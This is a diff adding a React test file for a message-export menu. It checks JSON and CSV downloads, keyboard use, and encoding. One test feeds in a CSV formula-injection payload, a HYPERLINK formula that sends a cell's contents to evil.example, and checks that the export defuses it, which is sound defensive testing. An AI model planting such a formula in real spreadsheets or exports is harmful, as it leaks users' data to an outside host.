@@ -1,0 +1,166 @@
+import { act, render, screen, within } from '@testing-library/react';
+import userEvent from '@testing-library/user-event';
+import { beforeEach, describe, expect, it, vi } from 'vitest';
+import { DEMO_CONTACTS, DEMO_SHOP_NUMBER } from '../../../../emulator/src/core/seed';
+import { parseCsv } from '../../../test/csv';
+import { testEmulator } from '../../../test/emulator';
+import { cardField, chooseNumber, messageCards, openMessagesPage } from '../../../test/messagesPage';
+import { testMessage } from '../../../test/messageFixture';
+import { spyOnObjectUrls } from '../../../test/objectUrls';
+import { ExportMenu } from './ExportMenu';
+
+const objectUrls = spyOnObjectUrls();
+
+/** The files the page asked the browser to save, in order. */
+let saved: { name: string; content: Blob }[] = [];
+
+beforeEach(() => {
+  saved = [];
+  // jsdom cannot follow the download link; the browser suite (e2e/export.spec.ts) saves real files.
+  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
+    // The page makes object URLs for media too: the saved file is the one behind this link.
+    const index = objectUrls.created.mock.results.findIndex((result) => result.value === this.href);
+    const content = objectUrls.created.mock.calls[index]?.[0];
+    if (!(content instanceof Blob)) throw new Error(`the link ${this.href} is not to a Blob`);
+    saved.push({ name: this.download, content });
+  });
+  return () => vi.restoreAllMocks();
+});
+
+const savedNames = () => saved.map((file) => file.name);
+
+/** The content of the `index`th file saved, as bytes. */
+async function savedBytes(index = 0): Promise<Uint8Array> {
+  const file = saved[index];
+  if (!file) throw new Error(`no file ${index} was saved`);
+  return new Uint8Array(await file.content.arrayBuffer());
+}
+
+/** The `index`th file saved, decoded as UTF-8 with any byte order mark kept. */
+async function savedText(index = 0): Promise<string> {
+  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await savedBytes(index));
+}
+
+/** Today on this computer's calendar, as the file names write it. */
+function today(): string {
+  const now = new Date();
+  return [now.getFullYear(), now.getMonth() + 1, now.getDate()]
+    .map((n) => String(n).padStart(2, '0'))
+    .join('-');
+}
+
+/** The message ids on the cards, top to bottom. */
+async function shownSids(): Promise<string[]> {
+  return (await messageCards()).map((card) => cardField(card, 'Message id').textContent ?? '');
+}
+
+describe('ExportMenu on the Messages page', () => {
+  it('exports the number’s list as JSON and CSV from the keyboard: open, arrow, Enter', async () => {
+    const { user } = await openMessagesPage();
+    await chooseNumber(user, DEMO_SHOP_NUMBER);
+    const sids = await shownSids();
+
+    const toggle = screen.getByRole('button', { name: 'Export' });
+    expect(toggle).toHaveAttribute('aria-haspopup', 'menu');
+    act(() => toggle.focus());
+    await user.keyboard('{Enter}');
+    expect(toggle).toHaveAttribute('aria-expanded', 'true');
+    const menu = screen.getByRole('menu');
+    const csvItem = within(menu).getByRole('menuitem', { name: `Export ${sids.length} messages as CSV` });
+    const jsonItem = within(menu).getByRole('menuitem', { name: `Export ${sids.length} messages as JSON` });
+    // Opened from the keyboard, the menu takes focus on its first item.
+    expect(csvItem).toHaveFocus();
+    await user.keyboard('{ArrowDown}');
+    expect(jsonItem).toHaveFocus();
+    await user.keyboard('{Enter}');
+
+    expect(savedNames()).toEqual([`messages-14155550100-${today()}.json`]);
+    expect(saved[0]?.content.type).toBe('application/json');
+    const records = JSON.parse(await savedText()) as { sid: string; from: string; date_created: string }[];
+    expect(records.map((record) => record.sid)).toEqual(sids);
+    expect(records.every((record) => record.from.startsWith('+'))).toBe(true);
+    expect(records.every((record) => /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/.test(record.date_created))).toBe(
+      true,
+    );
+    // The menu closes and focus goes back to the toggle.
+    expect(toggle).toHaveAttribute('aria-expanded', 'false');
+    expect(toggle).toHaveFocus();
+
+    await user.keyboard('{ArrowDown}');
+    expect(within(screen.getByRole('menu')).getByRole('menuitem', { name: /as CSV$/ })).toHaveFocus();
+    await user.keyboard('{Enter}');
+
+    expect(savedNames()[1]).toBe(`messages-14155550100-${today()}.csv`);
+    expect(saved[1]?.content.type).toBe('text/csv;charset=utf-8');
+    // UTF-8 with a byte order mark, so a spreadsheet reads 'Ça marche' and emoji as they are.
+    expect([...(await savedBytes(1)).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const [header, ...rows] = parseCsv((await savedText(1)).slice(1));
+    expect(header?.slice(0, 8)).toEqual([
+      'sid',
+      'date_created',
+      'date_sent',
+      'direction',
+      'from',
+      'to',
+      'status',
+      'body',
+    ]);
+    expect(rows.map((row) => row[0])).toEqual(sids);
+    expect(rows.map((row) => row[7])).toContain('Ça marche, à demain ! 🥐');
+    // Phone numbers stay text in a spreadsheet: a '+' cell would become a number such as 1.42E+10.
+    expect(rows.every((row) => row[4]?.startsWith("'+") && row[5]?.startsWith("'+"))).toBe(true);
+  });
+
+  it('makes a formula sent as a message inert in CSV and keeps it raw in JSON', async () => {
+    const body = '=HYPERLINK("https://evil.example/?"&A1,"Open, now")\nsecond line';
+    testEmulator().deliverInbound({ from: DEMO_CONTACTS.maya, to: DEMO_SHOP_NUMBER, body });
+    const { user } = await openMessagesPage();
+    await chooseNumber(user, DEMO_SHOP_NUMBER);
+    await messageCards();
+
+    await user.click(screen.getByRole('button', { name: 'Export' }));
+    await user.click(screen.getByRole('menuitem', { name: /as CSV$/ }));
+    await user.click(screen.getByRole('button', { name: 'Export' }));
+    await user.click(screen.getByRole('menuitem', { name: /as JSON$/ }));
+
+    const csv = await savedText(0);
+    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Open, now"")\nsecond line",`);
+    expect(parseCsv(csv.slice(1)).some((row) => row[7] === `'${body}`)).toBe(true);
+    const records = JSON.parse(await savedText(1)) as { body: string }[];
+    expect(records.map((record) => record.body)).toContain(body);
+  });
+
+  it("exports 'All numbers' as the list shows it", async () => {
+    const { user } = await openMessagesPage();
+    await user.click(screen.getByRole('button', { name: /^All numbers/ }));
+    const list = await screen.findByRole('list', { name: 'Messages from and to all numbers' });
+    const sids = within(list)
+      .getAllByRole('listitem')
+      .map((item) => cardField(item, 'Message id').textContent ?? '');
+
+    await user.click(screen.getByRole('button', { name: 'Export' }));
+    await user.click(screen.getByRole('menuitem', { name: `Export ${sids.length} messages as CSV` }));
+
+    expect(savedNames()).toEqual([`messages-all-numbers-${today()}.csv`]);
+    const [, ...rows] = parseCsv((await savedText()).slice(1));
+    expect(rows.map((row) => row[0])).toEqual(sids);
+  });
+});
+
+describe('ExportMenu', () => {
+  it('is disabled while there are no messages', () => {
+    render(<ExportMenu messages={[]} phoneNumber="+14155550100" />);
+    expect(screen.getByRole('button', { name: 'Export' })).toBeDisabled();
+  });
+
+  it('names one message in the singular, and saves nothing until a format is chosen', async () => {
+    const user = userEvent.setup();
+    render(<ExportMenu messages={[testMessage({ sid: 'SM1' })]} phoneNumber={null} />);
+    await user.click(screen.getByRole('button', { name: 'Export' }));
+    expect(objectUrls.created).not.toHaveBeenCalled();
+    expect(screen.getByRole('menuitem', { name: 'Export 1 message as JSON' })).toBeVisible();
+    await user.keyboard('{Escape}');
+    expect(screen.getByRole('button', { name: 'Export' })).toHaveAttribute('aria-expanded', 'false');
+    expect(savedNames()).toEqual([]);
+  });
+});
